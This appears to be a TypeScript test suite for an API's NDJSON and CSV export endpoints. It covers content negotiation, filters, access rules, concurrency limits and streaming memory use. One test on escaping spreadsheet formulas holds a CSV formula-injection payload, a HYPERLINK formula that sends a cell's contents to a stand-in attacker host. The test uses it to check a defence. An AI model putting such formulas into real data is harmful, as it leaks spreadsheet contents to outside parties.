import assert from 'node:assert/strict'
import { once } from 'node:events'
import { get, type IncomingMessage } from 'node:http'
import { type AddressInfo, connect } from 'node:net'
import { after, test } from 'node:test'
import { sql } from 'kysely'
import { closed, Id } from '../src/api/schemas.ts'
import { counterKeys } from '../src/db/counters.ts'
import { sendExport } from '../src/http/export.ts'
import { exportBounds, OpenTransfers } from '../src/http/open-transfers.ts'
import { createPipeline } from '../src/http/pipeline.ts'
import { startProcessBeside } from './beside-process.ts'
import { type Json, startServer } from './harness.ts'
import { signedInAs } from './people.ts'
import { assertRefused } from './refusals.ts'
import { until } from './until.ts'

const server = await startServer()
const { secret: key } = await server.credential('read write')

async function post(path: string, json: Json): Promise<Json> {
  const { status, body, text } = await server.call('POST', path, { key, json })
  assert.equal(status, 201, text)
  return body
}

function download(path: string, accept?: string) {
  return server.call('GET', path, { key, headers: accept === undefined ? {} : { accept } })
}

const linesOf = (text: string): Json[] =>
  text
    .split('\n')
    .slice(0, -1)
    .map((line) => JSON.parse(line))

const profile = {
  first_name: 'Ada, "Countess"',
  last_name: 'Lovelace',
  phone: '+44 1',
  bio: 'Two\nlines. 日本',
}
const ada = await post('/api/v1/users', {
  username: 'ada',
  email: 'ada@example.org',
  password: 'correct horse',
  role: 'editor',
  profile,
})
for (let i = 1; i <= 1_003; i++) {
  // Several a second, so that the id has to settle the order among them.
  if (i % 7 === 0) server.clock.advance(1_000)
  if (i <= 3) await post('/api/v1/documents', { title: `Long ${i}`, content: `${i}`.repeat(700_000) })
  else if (i % 100 === 0) {
    const items = Array.from({ length: 100 }, (_, n) => ({
      action: 'create',
      data: {
        title: `Document ${i} ${n}`,
        category: `c${n % 2}`,
        status: n % 4 === 0 ? 'published' : 'draft',
        content: n % 3 === 0 ? 'a "quoted", comma\r\nline' : '',
      },
    }))
    await server.call('POST', '/api/v1/documents/batch', { key, json: { items } })
  }
}

test('an export is a line of JSON for each resource, whole, the oldest first, as a file of today', async () => {
  const { status, headers, text } = await download('/api/v1/documents/export')
  assert.equal(status, 200)
  assert.equal(headers.get('content-type'), 'application/x-ndjson')
  assert.match(
    headers.get('content-disposition') ?? '',
    /^attachment; filename="documents-2026-01-15\.ndjson"$/,
  )
  assert.match(headers.get('vary') ?? '', /, Accept, Accept-Encoding$/)
  assert.ok(headers.get('x-ratelimit-remaining'))
  const rows = linesOf(text)
  const { total_count } = (await server.call('GET', '/api/v1/documents', { key })).body.meta
  assert.equal(total_count, 1_003)
  assert.deepEqual(
    rows.map(({ id }) => id),
    Array.from({ length: total_count }, (_, i) => i + 1),
  )
  for (const i of [0, 2, 3, 500, 1_002]) {
    const { body } = await server.call('GET', `/api/v1/documents/${rows[i].id}`, { key })
    assert.deepEqual(rows[i], body)
  }
})

test('an export ends with the line that its header names, if the caller wants that', async () => {
  const path = '/api/v1/users/export?role=editor'
  for (const type of ['application/x-ndjson', 'text/csv']) {
    const plain = await download(path, type)
    assert.equal(plain.headers.get('x-export-end'), null)
    for (const accept of [`${type}; end=marked`, `${type};end=marked;q=0.9, text/plain`]) {
      const marked = await download(path, accept)
      assert.equal(marked.headers.get('content-type'), plain.headers.get('content-type'))
      const end = marked.headers.get('x-export-end') ?? ''
      assert.match(end, /^[0-9a-f]{32}$/)
      assert.equal(marked.text, `${plain.text}${end}\n`)
    }
  }
  const [one, two] = [await download(path, '*/*; end=marked'), await download(path, '*/*; end=marked')]
  assert.notEqual(one.headers.get('x-export-end'), two.headers.get('x-export-end'))
  const head = await server.call('HEAD', path, { key, headers: { accept: '*/*; end=marked' } })
  assert.equal(head.headers.get('x-export-end'), null)
})

test('the filters of the list narrow an export, and its paging is not known to it', async () => {
  const listed = async (query: string) =>
    (await server.call('GET', `/api/v1/documents?limit=1&${query}`, { key })).body.meta.total_count
  for (const query of ['category=c1&status=published', 'category=c0', 'q=document+300', 'author_id=999']) {
    const rows = linesOf((await download(`/api/v1/documents/export?${query}`)).text)
    assert.equal(rows.length, await listed(query), query)
  }
  for (const query of ['page=2', 'limit=5', 'sort=created_at', 'cursor=x'])
    assertRefused(
      await download(`/api/v1/documents/export?${query}`),
      400,
      /query parameter is not known here/,
    )
  assertRefused(await download('/api/v1/documents/export?status=lost'), 400, /must be one of: draft/)
})

test('as CSV an export has a header, a flat profile, quotes where RFC 4180 wants them, and around every cell of several lines', async () => {
  const users = await download('/api/v1/users/export?role=editor', 'text/csv')
  assert.equal(users.headers.get('content-type'), 'text/csv; charset=utf-8; header=present')
  assert.match(users.headers.get('content-disposition') ?? '', /filename="users-2026-01-15\.csv"/)
  assert.equal(
    users.text,
    'id,username,email,role,status,created_at,last_login,profile.first_name,profile.last_name,profile.phone,profile.bio\r\n' +
      `"${ada.id}","ada","ada@example.org","editor","active","2026-01-15T08:30:00Z",,"Ada, ""Countess""","Lovelace","+44 1","Two\nlines. 日本"\r\n`,
  )
  const documents = await download('/api/v1/documents/export?category=c0&status=published', 'text/csv')
  const [header, first] = documents.text.split(/\r\n(?!line)/)
  assert.equal(
    header,
    'id,title,category,status,created_at,updated_at,author_id,content,content_type,published_at,publish_at,version,summary,publish_refused',
  )
  assert.match(first ?? '', /,"a ""quoted"", comma\r\nline","text\/markdown","2026-01-15T[\d:]+Z",,"1",,$/)
})

test('in an export for spreadsheets no text begins a formula, and the header says so', async () => {
  const formula = '=HYPERLINK("http://evil.example?"&B2,"Maria")'
  const texts: [text: string, escaped: string][] = [
    [formula, `'${formula}`],
    ['-5', "'-5"],
    ['+44 1', "'+44 1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ["'=kept", "''=kept"],
    ["'plain", "'plain"],
    ['a-b = c', 'a-b = c'],
    ['" =1"', '\'" =1"'],
    ['\uff1d1', "'\uff1d1"],
    ['a;=1', "a;'=1"],
  ]
  for (const [i, [text]] of texts.entries()) {
    const json = { username: `sheet${i}`, email: `sheet${i}@example.org`, password: 'correct horse' }
    await post('/api/v1/users', { ...json, profile: { last_name: text, bio: `x\n${text}\ty\n- item` } })
  }
  const path = '/api/v1/users/export?role=normal&format=csv'
  const plain = await download(path)
  const escaped = await download(`${path}&formulas=escaped`)
  assert.equal(escaped.text.split('\r\n')[0], `${plain.text.split('\r\n')[0]},formulas=escaped`)
  // A record of several lines has quotes around every cell.
  const cell = (text: string) => `,"${text.replaceAll('"', '""')}",`
  for (const [text, without] of texts) {
    assert.ok(escaped.text.includes(cell(without)), text)
    assert.ok(plain.text.includes(cell(text)), text)
  }
  assert.doesNotMatch(escaped.text, /(^|[\r\n;\t]|,"?)[ "]*[=+@\uff1d-]/)
  assert.match(escaped.text, /\n'- item",\r\n$/)
  for (const list of ['documents/export?category=none&', 'categories/export?']) {
    const { text } = await download(`/api/v1/${list}format=csv&formulas=escaped`)
    assert.match(text, /^id,[^\r\n]*,formulas=escaped\r\n/)
  }
  const ndjson = await download('/api/v1/users/export?role=normal&formulas=escaped')
  assert.equal(linesOf(ndjson.text)[0].profile.last_name, formula)
  assertRefused(await download(`${path}&formulas=live`), 400, /'formulas' query parameter must be/)
})

test('an address alone chooses the form, for a link that a browser downloads', async () => {
  const browser = 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'
  for (const [query, type, ending] of [
    ['?role=editor&format=csv', 'text/csv; charset=utf-8; header=present', 'csv'],
    ['?format=ndjson', 'application/x-ndjson', 'ndjson'],
    ['', 'application/x-ndjson', 'ndjson'],
  ] as const) {
    const { headers } = await download(`/api/v1/users/export${query}`, browser)
    assert.equal(headers.get('content-type'), type, query)
    assert.match(headers.get('content-disposition') ?? '', new RegExp(`^attachment; .*\\.${ending}"$`), query)
  }
  assertRefused(
    await download('/api/v1/documents/export?format=xml'),
    400,
    /'format' query parameter must be one of: ndjson, csv/,
  )
})

test('the Accept header chooses, by weight, and an export of another type is refused', async () => {
  const typeFor = async (accept: string) =>
    (await download('/api/v1/users/export?role=admin', accept)).headers.get('content-type')?.split(';')[0]
  for (const accept of [
    '*/*',
    'application/*',
    'text/html, */*;q=0.8',
    'text/csv;q=0.5, application/x-ndjson',
  ])
    assert.equal(await typeFor(accept), 'application/x-ndjson', accept)
  for (const accept of [
    'text/csv',
    'TEXT/CSV; q=0.1',
    'text/*',
    '*/*;q=0.1, text/csv',
    'application/*;q=0, */*',
  ])
    assert.equal(await typeFor(accept), 'text/csv', accept)
  for (const accept of ['application/json', 'text/html', 'text/csv;q=0'])
    assertRefused(
      await download('/api/v1/users/export', accept),
      406,
      /allows neither application\/x-ndjson nor/,
    )
})

test('nothing matches: no line of JSON, and of CSV the header alone', async () => {
  assert.equal((await download('/api/v1/documents/export?category=none')).text, '')
  const csv = await download('/api/v1/documents/export?category=none', 'text/csv')
  assert.match(csv.text, /^id,title,[^\r\n]+\r\n$/)
})

test('HEAD returns the headers and reads nothing', async () => {
  const { status, headers, text } = await server.call('HEAD', '/api/v1/documents/export', { key })
  assert.deepEqual([status, text, headers.get('content-type')], [200, '', 'application/x-ndjson'])
})

test('who sees published documents only exports published documents only', async () => {
  const normal = await signedInAs(server, 'normal')
  const { status, text } = await normal.call('GET', '/api/v1/documents/export')
  assert.equal(status, 200)
  const rows = linesOf(text)
  assert.ok(rows.length > 0 && rows.every((row) => row.status === 'published'))
  assertRefused(
    await normal.call('GET', '/api/v1/documents/export?status=draft'),
    403,
    /published documents only/,
  )
  assertRefused(await normal.call('GET', '/api/v1/users/export'), 403, /'users:read'/)
})

/** A list that the test makes, behind the real pipeline. */
async function serveExport(
  pages: () => AsyncGenerator<{ id: number }[]>,
  openExports = server.context.openExports,
): Promise<string> {
  const app = createPipeline(server.context)
  const schema = closed({ id: Id })
  app.get('/export', { config: { access: 'public' } }, (request, reply) =>
    sendExport(
      { ...server.context, openExports },
      request,
      reply,
      { name: 'things', action: 'thing.export', schema, nowMs: server.clock.now() },
      pages(),
    ),
  )
  await app.listen({ host: '127.0.0.1', port: 0 })
  after(() => app.close())
  return `http://127.0.0.1:${(app.server.address() as AddressInfo).port}/export`
}

const page = (size: number) => Array.from({ length: size }, (_, id) => ({ id }))

test('a failure on the way breaks the connection off; one before the first page is an error like any other', async () => {
  const url = await serveExport(async function* () {
    yield page(10_000)
    throw new Error('the database is gone')
  })
  const response = await fetch(url)
  assert.equal(response.status, 200)
  await assert.rejects(response.text(), /terminated/)

  const early = await fetch(
    // biome-ignore lint/correctness/useYield: it fails before it comes to that
    await serveExport(async function* () {
      throw new Error('the database is gone')
    }),
  )
  assert.equal(early.status, 500)
  assert.equal(((await early.json()) as Json).error.code, 'internal_error')
})

test('a caller who leaves ends the reading, and one who does not read holds it up', async () => {
  let pagesRead = 0
  const ended = Promise.withResolvers<void>()
  const url = await serveExport(async function* () {
    try {
      for (;;) {
        pagesRead++
        yield page(10_000)
      }
    } finally {
      ended.resolve()
    }
  })
  const response = await fetch(url)
  const reader = response.body?.getReader()
  await reader?.read()
  await reader?.cancel()
  await ended.promise
  const pageBytes = page(10_000).reduce((sum, row) => sum + JSON.stringify(row).length + 1, 0)
  assert.ok(pagesRead * pageBytes < 32 * 1024 * 1024, `${pagesRead} pages were read for nobody`)
})

/** Begins to download, and leaves it lying. @returns its status, and how to leave */
async function openExport(url: string, secret: string) {
  const request = get(url, { headers: { 'x-api-key': secret }, agent: false }).on('error', () => {})
  const [answer] = (await once(request, 'response')) as [IncomingMessage]
  answer.pause().on('error', () => {})
  return { status: answer.statusCode, headers: answer.headers, answer, leave: () => request.destroy() }
}

test('a caller may have 10 exports open, others as many, and 40 are the most for all', async () => {
  const url = await serveExport(async function* () {
    for (;;) yield page(10_000)
  })
  // More than the buffers on the way hold.
  for (let i = 0; i < 12; i++)
    await post('/api/v1/documents', { title: `Large ${i}`, category: 'large', content: 'x'.repeat(900_000) })
  const exporting = `${server.url}/api/v1/documents/export?category=large`
  const keys = await Promise.all(
    Array.from({ length: 4 }, async () => (await server.credential('read')).secret),
  )
  const open = await Promise.all(
    keys.flatMap((secret) => Array.from({ length: 10 }, () => openExport(exporting, secret))),
  )
  assert.ok(open.every(({ status }) => status === 200))
  const own = await server.call('GET', '/api/v1/users/export', { key: keys[0] ?? '' })
  assertRefused(own, 429, /^You have 10 exports open, the most at once; end one, then try again/)
  assert.equal(own.headers.get('retry-after'), '10')
  assert.equal(own.headers.get('content-disposition'), null)
  const another = await download('/api/v1/users/export')
  assertRefused(another, 503, /^Too many exports are open at once/)
  assert.equal(another.headers.get('retry-after'), '10')
  assert.equal((await server.call('HEAD', '/api/v1/users/export', { key })).status, 200)
  assert.equal((await fetch(url)).status, 503, 'whatever is exported')
  for (const { leave } of open) leave()
  await until(
    'an export to be let in',
    async () => (await download('/api/v1/users/export')).status === 200 || undefined,
  )
})

test('an export that is no longer read is aborted, and frees its place', async () => {
  const openExports = new OpenTransfers({ ...exportBounds, timeoutMs: 50 })
  const ended = Promise.withResolvers<void>()
  const url = await serveExport(async function* () {
    try {
      for (;;) yield page(10_000)
    } finally {
      ended.resolve()
    }
  }, openExports)
  const { status, answer } = await openExport(url, key)
  assert.equal(status, 200)
  await ended.promise
  const end = openExports.begin('another')
  end()
  answer.resume()
  const [error] = (await once(answer, 'error')) as [Error]
  assert.match(error.message, /aborted/)
})

test('exports that are read fast let others in between, each after one page', async () => {
  const order: string[] = []
  const url = await serveExport(async function* () {
    for (let i = 0; i < 20; i++) {
      order.push('page')
      yield page(5_000)
    }
  })
  const reading = Promise.all(Array.from({ length: 5 }, async () => (await fetch(url)).text()))
  await until('the exports to begin', () => order.length > 5 || undefined)
  // Each of these takes some turns of the event loop, and each turn has one page at most.
  for (let i = 0; i < 3; i++) {
    assert.equal((await server.call('GET', '/api/v1/documents?limit=1', { key })).status, 200)
    order.push('other')
  }
  await reading
  const firstOther = order.indexOf('other')
  assert.ok(
    order.length === 103 && firstOther < 100,
    `the first of the others came after ${firstOther} pages`,
  )
})

test('60,000 users are exported to a slow reader in constant memory', async () => {
  const rows = 60_000
  await server.context.database.write(async (trx) => {
    const at = '2025-01-15T08:30:00Z'
    await sql`
      insert into users
        (username, username_key, email, email_key, role, status, bio, created_at, updated_at, version)
      with recursive numbers(n) as (select 1 union all select n + 1 from numbers where n < ${sql.lit(rows)})
      select 'bulk' || n, 'bulk' || n, 'bulk' || n, 'bulk' || n, 'normal', 'inactive', ${'b'.repeat(1_000)}, ${at}, ${at}, 1
      from numbers
    `.execute(trx.db)
    for (const key of counterKeys('users', { role: 'normal', status: 'inactive' })) trx.count(key, rows)
  })
  // A heap that cannot hold the answer, so that garbage is collected early and the figure is one of what is needed.
  const child = await startProcessBeside(server, ['--max-old-space-size=48', '--max-semi-space-size=2'])
  const read = async (path: string, eachChunk: () => Promise<void>) => {
    const [answer] = (await once(get(child.url + path, { headers: { 'x-api-key': key } }), 'response')) as [
      IncomingMessage,
    ]
    let lines = 0
    for await (const chunk of answer as AsyncIterable<Buffer>) {
      for (const byte of chunk) if (byte === 10) lines++
      await eachChunk()
    }
    return lines
  }
  await read('/api/v1/documents/export?category=c0', async () => {})
  const before = await child.memory()
  let peak = before
  const lines = await read('/api/v1/users/export?status=inactive', async () => {
    peak = Math.max(peak, await child.memory())
  })
  assert.equal(lines, rows)
  const growthMb = (peak - before) / 2 ** 20
  assert.ok(growthMb < 40, `the server grew by ${Math.round(growthMb)} MB while it sent 70 MB`)
})

test('exports that were sent ahead on one connection are over when the connection is', async () => {
  const { secret } = await server.credential('read write')
  // More than the buffers on the way hold, so that the first is still being sent.
  for (let i = 0; i < 30; i++)
    await server.call('POST', '/api/v1/documents', {
      key: secret,
      json: { title: `Long ${i}`, category: 'long', content: 'x'.repeat(300_000) },
    })
  const path = '/api/v1/documents/export?category=long'
  const { hostname, port } = new URL(server.url)
  const socket = connect(Number(port), hostname)
  socket.write(`GET ${path} HTTP/1.1\r\nHost: a\r\nX-API-Key: ${secret}\r\n\r\n`.repeat(10))
  await once(socket, 'readable')
  socket.destroy()
  await until('all exports to be over', async () => {
    const all = await Promise.all(
      Array.from({ length: 10 }, () => server.call('GET', `${path}&q=nowhere`, { key: secret })),
    )
    return all.every(({ status }) => status === 200) || undefined
  })
})
